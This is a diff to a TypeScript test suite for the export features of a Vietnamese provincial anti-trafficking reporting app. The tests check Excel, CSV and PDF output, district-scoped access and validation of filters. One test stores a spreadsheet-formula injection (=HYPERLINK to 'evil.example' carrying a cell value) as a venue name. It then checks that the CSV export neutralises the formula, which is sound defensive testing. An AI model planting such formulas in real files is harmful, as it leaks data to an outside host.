@@ -9,7 +9,7 @@ import ExcelJS from 'exceljs';
 import { buildTestApp, type TestApp } from '../../helpers/app.js';
 import { loginAs, type SignedInClient } from '../../helpers/auth.js';
 import { createReport, createRoundWithTeam, createVenue, district } from '../../helpers/factories.js';
-import { html } from '../../helpers/html.js';
+import { html, textOf } from '../../helpers/html.js';
 
 let test: TestApp;
 let head: SignedInClient;
@@ -164,8 +164,9 @@ describe('exports', () => {
     });
     expect(sheetRows).toEqual(table.map((cells) => cells.map(normalise)));
     expect(sheet.getRow(6).getCell(2).numFmt).toBe('#,##0');
-    expect(workbook.worksheets.map((ws) => ws.name)).toEqual(['Tổng hợp', 'Biên bản', 'Vi phạm']);
+    expect(workbook.worksheets.map((ws) => ws.name)).toEqual(['Tổng hợp', 'Biên bản', 'Vi phạm', 'Khắc phục']);
     expect(workbook.worksheets[1]!.rowCount - 1).toBe(4); // the approved reports behind the summary
+    expect(workbook.worksheets[3]!.rowCount - 1).toBe(2); // and their follow-ups
 
     const pdf = await head.get(`/reports/districts.pdf?${period}`);
     expect(pdf.headers['content-type']).toBe('application/pdf');
@@ -173,6 +174,8 @@ describe('exports', () => {
     expect(text).toContain('Tổng hợp công tác phòng, chống mua bán người');
     expect(text).toContain('Huyện Bắc Yên');
     expect(text).toMatch(/Trang 1\/\d/);
+    // Every page carries part of the table, not only its number (no page is added just for the footer).
+    for (const page of text.split('\n')) expect(page.replace(/Trang \d+\/\d+/, '').trim().length).toBeGreaterThan(50);
     // The province row's figures appear in the PDF in the same order as on the page.
     const totalLine = table.at(-1)!;
     const pdfTotals = text.split('Toàn tỉnh (Tỉnh Sơn La)').slice(1).map((chunk) => chunk.split(/Địa bàn|Trang/)[0]!.trim().split(/\s+/)).flat();
@@ -187,12 +190,13 @@ describe('exports', () => {
   it('give a district-scoped auditor only their district, in every format', async () => {
     const scoped = await loginAs(test.app, 'auditor', { areaId: district(test.app, 'Sông Mã').id });
     const table = await pageTable(scoped);
-    expect(table.map((cells) => cells[0])).toEqual(['Huyện Sông Mã', 'Toàn tỉnh (Tỉnh Sơn La)']);
+    expect(table.map((cells) => cells[0])).toEqual(['Huyện Sông Mã', 'Tổng (Huyện Sông Mã)']);
     expect(table[1]!.slice(1, 18)).toEqual(table[0]!.slice(1, 18));
     const csv = parse((await scoped.get(`/reports/districts.csv?${period}`)).body.replace(/^\uFEFF/, '')) as string[][];
-    expect(csv.slice(1).map((cells) => cells[0])).toEqual(['Huyện Sông Mã', 'Toàn tỉnh (Tỉnh Sơn La)']);
+    expect(csv.slice(1).map((cells) => cells[0])).toEqual(['Huyện Sông Mã', 'Tổng (Huyện Sông Mã)']);
     const text = await pdfText((await scoped.get(`/reports/districts.pdf?${period}`)).rawPayload);
     expect(text).not.toContain('Huyện Bắc Yên');
+    expect(text).toContain('Chỉ gồm số liệu của Huyện Sông Mã');
     const records = (await scoped.get(`/reports/records/reports.csv?${period}`)).body;
     expect(records).toContain('Nhà nghỉ Bờ Sông');
     expect(records).not.toContain('Karaoke Ánh Sao');
@@ -236,6 +240,64 @@ describe('exports', () => {
     expect(body.map((cells) => cells.slice(0, table[0]!.length).map((cell) => normalise(cell).replace(/,/g, '')))).toEqual(table.map((cells) => cells.map(normalise)));
     fs.rmSync(folder, { recursive: true, force: true });
   }, 180_000);
+  it('refuse filters that do not read, saying so beside each field, and make no file', async () => {
+    const exportsBefore = test.app.db.get<{ n: number }>(sql`select count(*) as n from audit_log where action = 'export'`)!.n;
+    const page = await auditor.get('/reports/districts?from=2024-13-45&to=abc&campaign=abc&level=xyz');
+    expect(page.statusCode).toBe(422);
+    const $ = html(page.body);
+    expect(textOf($, '#field-from-error')).toContain('không hợp lệ');
+    expect(textOf($, '#field-to-error')).toContain('không hợp lệ');
+    expect(textOf($, '#field-campaign-error')).toContain('Không có kế hoạch này');
+    expect(textOf($, '#field-level-error')).toContain('theo huyện hoặc theo xã');
+    expect($('#field-from').val()).toBe('2024-13-45');
+    expect($('#summary-table')).toHaveLength(0);
+    const reversed = await auditor.get('/reports/districts?from=31/12/2025&to=01/01/2025');
+    expect(reversed.statusCode).toBe(422);
+    expect(textOf(html(reversed.body), '#field-to-error')).toContain('sau ngày bắt đầu');
+    for (const url of ['/reports/districts.csv?from=31/02/2025', '/reports/districts.pdf?campaign=999999', '/reports/records/reports.csv?to=abc']) {
+      const response = await auditor.get(url);
+      expect(response.statusCode, url).toBe(422);
+      expect(response.headers['content-type'], url).toContain('text/html');
+      expect(response.headers['content-disposition'], url).toBeUndefined();
+    }
+    expect(test.app.db.get<{ n: number }>(sql`select count(*) as n from audit_log where action = 'export'`)!.n).toBe(exportsBefore);
+  });
+
+  it('write text that looks like a formula so that a spreadsheet shows it, never runs it', async () => {
+    const roundId = createRoundWithTeam(test.app, [inspector.user.id], { title: 'Đợt tháng 4' });
+    const venueId = createVenue(test.app, { name: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")' });
+    createReport(test.app, { roundId, venueId, inspectorId: inspector.user.id, reviewerId: head.user.id, status: 'approved', visitDate: '11/03/2025' });
+    const csv = parse((await auditor.get(`/reports/records/reports.csv?${period}`)).body.replace(/^\uFEFF/, '')) as string[][];
+    const cells = csv.flat().filter((cell) => cell.includes('HYPERLINK'));
+    expect(cells).toEqual(['\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")']);
+  });
+});
+
+describe('a commune formed from two districts', () => {
+  it('counts, for a person who sees only the other district, in their own row, so their rows add up to their total', async () => {
+    const fresh = await buildTestApp({ now: () => new Date('2025-12-15T03:00:00Z'), env: { SESSION_IDLE_MINUTES: '43200' } });
+    try {
+      const { catalog } = fresh.app;
+      // A commune in two districts' families whose main origin is the first of them.
+      let pair: { commune: number; other: number } | undefined;
+      for (const district of catalog.districts) {
+        for (const commune of catalog.districtFamily(district.id).slice(1)) {
+          const primary = catalog.primaryDistrictOf(commune);
+          if (primary !== undefined && primary !== district.id) pair = { commune, other: district.id };
+        }
+      }
+      expect(pair).toBeDefined();
+      const writer = await loginAs(fresh.app, 'inspector');
+      await writer.post('/outreach', { activityDate: '10/09/2025', areaId: pair!.commune, village: '', format: 'village_meeting', channel: 'in_person', targetGroups: ['students'], organisingAgency: 'womens_union', participantsTotal: '50', participantsWomen: '30' });
+      const scoped = await loginAs(fresh.app, 'auditor', { areaId: pair!.other });
+      const $ = html((await scoped.get('/reports/districts?from=01/01/2025&to=31/12/2025')).body);
+      const cells = (selector: string) => $(`${selector} td[data-figure="participants"]`).text().trim();
+      expect(cells(`#summary-table tr[data-area="${pair!.other}"]`)).toBe('50');
+      expect(cells('#summary-table tr[data-area="total"]')).toBe('50');
+    } finally {
+      await fresh.close();
+    }
+  });
 });
 
 describe('a summary asked for again', () => {
